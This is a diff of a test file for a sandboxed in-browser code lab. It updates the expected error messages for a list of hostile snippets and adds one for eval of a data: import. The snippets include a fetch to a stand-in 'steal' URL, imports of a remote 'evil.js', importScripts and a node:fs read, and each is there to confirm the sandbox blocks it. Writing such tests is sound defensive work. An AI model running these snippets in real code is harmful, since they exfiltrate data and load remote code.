@@ -35,9 +35,9 @@ const CASES: HostileCase[] = [
   { name: 'fetch', code: "await fetch('https://example.com/steal?k=1');", message: /^Line 1: Error: fetch is not available in the code lab: the sandbox has no network/ },
   { name: 'XMLHttpRequest', code: "const x = new XMLHttpRequest();\nx.open('GET', 'https://example.com');", message: /^Line 1: Error: XMLHttpRequest is not available in the code lab/ },
   { name: 'WebSocket', code: "new WebSocket('wss://example.com/socket');", message: /^Line 1: Error: WebSocket is not available in the code lab/ },
-  { name: 'import() of a remote URL', code: "const m = await import('https://example.com/evil.js');", message: /^Line 1: ImportError: Cannot import 'https:\/\/example\.com\/evil\.js'.*You can import: @noble\/curves\/ed25519\.js/ },
-  { name: 'import() of a data: URL', code: "const m = await import('data:text/javascript,export default 42');", message: /^Line 1: ImportError: Cannot import 'data:text\/javascript,export default 42'/ },
-  { name: 'static import outside the allowlist', code: "import { readFileSync } from 'node:fs';\nconsole.log(readFileSync);", message: /^Line 1: ImportError: Cannot import 'node:fs'/ },
+  { name: 'import() of a remote URL', code: "const m = await import('https://example.com/evil.js');", message: /^Line 1: Cannot import 'https:\/\/example\.com\/evil\.js'.*You can import: @noble\/curves\/ed25519\.js/ },
+  { name: 'import() of a data: URL', code: "const m = await import('data:text/javascript,export default 42');", message: /^Line 1: Cannot import 'data:text\/javascript,export default 42'/ },
+  { name: 'static import outside the allowlist', code: "import { readFileSync } from 'node:fs';\nconsole.log(readFileSync);", message: /^Line 1: Cannot import 'node:fs'/ },
   { name: 'importScripts', code: "importScripts('https://example.com/evil.js');", message: /^Line 1: Error: importScripts is not available in the code lab/ },
   { name: 'nested Worker', code: "new Worker('data:text/javascript,postMessage(1)');", message: /^Line 1: Error: Worker is not available in the code lab/ },
   { name: 'reading document', code: 'console.log(document.title);', message: /^Line 1: ReferenceError: document is not defined\. Your code runs in an isolated worker with no page/ },
@@ -47,7 +47,14 @@ const CASES: HostileCase[] = [
   {
     name: 'eval of remote code',
     code: "const indirect = eval;\nawait indirect(\"import('https://example.com/evil.js')\");",
-    message: /^Line 2: TypeError: Failed to fetch dynamically imported module/,
+    // The string is evaluated at run time, so it escapes the transpiler's import rewrite and meets the
+    // worker's CSP (script-src 'self'), which refuses it before any request is made.
+    message: /^TypeError: Failed to fetch dynamically imported module: https:\/\/example\.com\/evil\.js$/,
+  },
+  {
+    name: 'eval of a data: import',
+    code: "const indirect = eval;\nawait indirect(\"import('data:text/javascript,export default 42')\");",
+    message: /^TypeError: Failed to fetch dynamically imported module: data:text\/javascript,export default 42$/,
   },
   { name: 'throw 42', code: 'throw 42;', message: /Your code threw 42, which is not an Error, so there is no line number/ },
   {
